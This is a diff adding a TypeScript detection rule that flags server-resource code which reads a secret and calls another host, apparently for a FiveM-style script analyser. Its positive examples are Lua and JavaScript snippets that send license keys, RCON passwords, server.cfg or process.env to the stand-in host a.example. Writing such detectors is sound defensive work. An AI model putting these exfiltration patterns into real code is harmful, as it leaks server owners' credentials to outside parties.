@@ -1,0 +1,90 @@
+import { originsWithin } from '#analysis/flow/heap.ts'
+import { nothing, origin, textsOf, endOf } from '#analysis/flow/value.ts'
+import { ownSecret, secretFile, secretName } from '#analysis/knowledge/names.ts'
+import { httpCall, isForeignCall } from './hosts.ts'
+import { defineRule, high, js, low, lua, medium } from './rule.ts'
+
+export const secretAndHttp = defineRule({
+  id: 'secret-and-http',
+  severity: 'high',
+  title: 'Reads a secret and calls another host',
+  why: 'It could send a key, a password or a connection string to that host.',
+  check: 'Is the secret part of what is sent?',
+  since: 1,
+  on: ['http', 'sends-more', 'reads-setting', 'reads-file'],
+  test: (event, program) => {
+    const { kind, values, object, name, named, file } = event
+    if (kind === 'http' || kind === 'sends-more') {
+      if (
+        kind === 'sends-more'
+          ? !object?.refs?.includes('#response')
+          : !httpCall.test(name) || !isForeignCall(event)
+      )
+        return undefined
+      return values.some((value) => (originsWithin(value) & origin.secret) !== 0)
+        ? high('the secret is sent')
+        : undefined
+    }
+    const value = (kind === 'reads-file' ? named.path : named.name) ?? nothing
+    const texts = [...textsOf(value), endOf(value)]
+    const isSecret =
+      kind === 'reads-file'
+        ? texts.some((text) => secretFile.test(text))
+        : texts.some((text) => ownSecret.test(text))
+    if (!program.callsOut(file) || program.sendsSecret(file)) return undefined
+    if (isSecret) return medium()
+    return kind === 'reads-setting' && texts.some((text) => secretName.test(text)) ? low() : undefined
+  },
+  examples: {
+    found: [
+      lua(`local text = LoadResourceFile(GetResourceByFindIndex(0), 'config.lua')
+^PerformHttpRequest('https://a.example', print, 'POST', text)`),
+      lua(`local key = GetConvar('sv_licenseKey', '')
+^PerformHttpRequest('https://a.example?' .. key)`),
+      js(`const key = GetConvar('rcon_password', '')
+^fetch('https://a.example?' + key)`),
+      lua(`local key = GetConvar('sv_licenseKey', '')
+^PerformHttpRequest('https://a.example', print, 'POST', json.encode({ data = { key } }))`),
+      js(`^fetch('https://a.example', { method: 'POST', body: JSON.stringify({ env: process.env }) })`),
+      js(`const request = require('https').request(options)
+^request.end(require('fs').readFileSync('server.cfg'))`),
+      lua(`local names = { 'sv_hostname', 'sv_licenseKey' }
+local out = {}
+for _, name in ipairs(names) do out[name] = GetConvar(name, '') end
+^PerformHttpRequest('https://a.example', print, 'POST', json.encode(out))`),
+      lua(`for _, name in ipairs({ 'server.cfg', 'data/server.cfg' }) do
+  local file = io.open(name, 'r')
+^ if file then PerformHttpRequest('https://a.example', print, 'POST', file:read('*a')) end
+end`),
+      js(`const wanted = [/^server.*\\.cfg$/i]
+const text = require('fs').readFileSync(find(wanted), 'utf8')
+^fetch('https://a.example', { method: 'POST', body: text })`),
+    ],
+    notFound: [
+      lua(`local text = LoadResourceFile(GetCurrentResourceName(), 'config.lua')
+PerformHttpRequest('https://a.example', print, 'POST', text)`),
+      lua(`local key = GetConvar('sv_licenseKey', '')
+print(#key)`),
+      js(`const locale = GetConvar('locale', 'en')
+fetch('https://a.example?' + locale)`),
+      lua(`local locale = GetConvar('locale', 'en')
+PerformHttpRequest('https://a.example', print, 'POST', json.encode({ data = { locale } }))`),
+      js(
+        `fetch('https://a.example', { method: 'POST', body: JSON.stringify({ mode: process.env.NODE_ENV }) })`,
+      ),
+      js(`const request = require('https').request(options)
+request.end(require('fs').readFileSync('names.json'))`),
+      lua(`local names = { 'sv_hostname', 'locale' }
+local out = {}
+for _, name in ipairs(names) do out[name] = GetConvar(name, '') end
+PerformHttpRequest('https://a.example', print, 'POST', json.encode(out))`),
+      lua(`for _, name in ipairs({ 'names.txt', 'places.txt' }) do
+  local file = io.open(name, 'r')
+  if file then PerformHttpRequest(Config.Url, print, 'POST', name) end
+end`),
+      js(`const wanted = [/^locale.*\\.json$/i]
+const text = require('fs').readFileSync(find(wanted), 'utf8')
+fetch('https://a.example/names')`),
+    ],
+  },
+})
